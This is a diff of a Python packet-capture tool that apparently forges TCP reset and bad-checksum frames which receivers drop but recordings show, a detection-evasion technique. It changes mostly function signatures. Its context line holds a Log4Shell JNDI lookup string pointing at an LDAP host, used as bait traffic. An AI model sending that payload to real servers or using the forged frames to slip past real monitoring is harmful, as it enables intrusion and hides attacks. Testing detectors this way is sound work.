@@ -86,7 +86,7 @@ BAIT = b"GET /?name=${jndi:ldap://10.20.1.66:1389/ward} HTTP/1.1\r\nHost: intran
 def forged(kind):
     """What a receiver drops unseen; only in a recording does it look like a part of the stream."""
     begun = set()
-    for _, when, length, packet in records():
+    for _, when, _, packet in records():
         frame = Ether(packet)
         if TCP in frame and IP in frame and frame[IP].len > 4 * (frame[IP].ihl + frame[TCP].dataofs):
             head = frame[IP].ihl * 4 + frame[TCP].dataofs * 4 + 14
@@ -95,12 +95,13 @@ def forged(kind):
             stream = (frame[IP].src, frame[TCP].sport, frame[IP].dst, frame[TCP].dport)
             if stream not in begun:
                 begun.add(stream)
-                yield when, length, wrong(frame, packet[:head], b"", "R")
-            yield when, length, wrong(frame, packet[:head], other, frame[TCP].flags)
-        yield when, length, packet
+                yield when, wrong(packet[:head], b"", "R")
+            yield when, wrong(packet[:head], other, frame[TCP].flags)
+        yield when, packet
 
 
-def wrong(frame, head, data, flags):
+def wrong(head, data, flags):
+    """A frame of this head and data, with a wrong checksum of TCP."""
     fake = Ether(head + data)
     fake[IP].len = len(head) - 14 + len(data)
     fake[TCP].flags = flags
@@ -124,7 +125,7 @@ elif what == "back":
 elif what == "fragment":
     write(fragmented(numbers[0]))
 elif what == "forge":
-    write((when, len(packet), packet) for when, _, packet in forged(numbers[0]))
+    write((when, len(packet), packet) for when, packet in forged(numbers[0]))
 elif what == "swap":
     other = ">" if order == "<" else "<"
     with open(target, "wb") as out:
